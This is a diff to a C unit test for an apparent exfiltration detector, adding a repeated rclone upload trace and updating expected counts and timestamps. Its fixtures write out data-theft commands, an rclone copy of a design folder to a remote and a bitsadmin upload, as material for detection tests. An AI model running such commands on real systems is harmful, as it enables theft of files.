@@ -200,10 +200,14 @@ TEST(theft_is_seen_where_a_tool_sends_without_packing)
 {
 	struct building b = begin("daily");
 	struct trace own;
+	char first[96];
 
 	for (int day = 0; day < 3; day++) {
 		add_trace(&b, tool_trace("C:\\ProgramData\\r\\rclone.exe", "rclone.exe copy D:\\design remote:d",
 					 START + day * 24 * HOUR));
+		/* Once more within reach of the same sending, which counts once. */
+		add_trace(&b, tool_trace("C:\\ProgramData\\r\\rclone.exe", "rclone.exe copy D:\\design remote:d",
+					 START + day * 24 * HOUR - 60 * TIME_SECOND));
 		own = transfer("ws01", "203.0.113.7:443", UINT64_MAX, START + day * 24 * HOUR + TIME_SECOND);
 		own.program = SPAN("c:\\programdata\\r\\RCLONE.EXE");
 		add_trace(&b, own);
@@ -214,7 +218,9 @@ TEST(theft_is_seen_where_a_tool_sends_without_packing)
 	assert_string_equal(rules(&b), "kanshiki.sent-by-tool high");
 	assert_string_equal(ask(&b, "SELECT json_extract(matched, '$.bytes_sent') || ' ' || json_extract(matched, "
 				    "'$.times') || ' ' || json_extract(matched, '$.to') FROM finding"),
-			    "60000000 3 203.0.113.7");
+			    "60000000 6 203.0.113.7");
+	snprintf(first, sizeof first, "SELECT time - %lld FROM finding", (long long)(START - 60 * TIME_SECOND));
+	assert_string_equal(ask(&b, first), "0");
 	case_close(b.file);
 	b = begin("unknown");
 	add_trace(&b, tool_trace("C:\\x\\bitsadmin.exe", "bitsadmin /transfer j /upload /priority high https://x/ y", START));
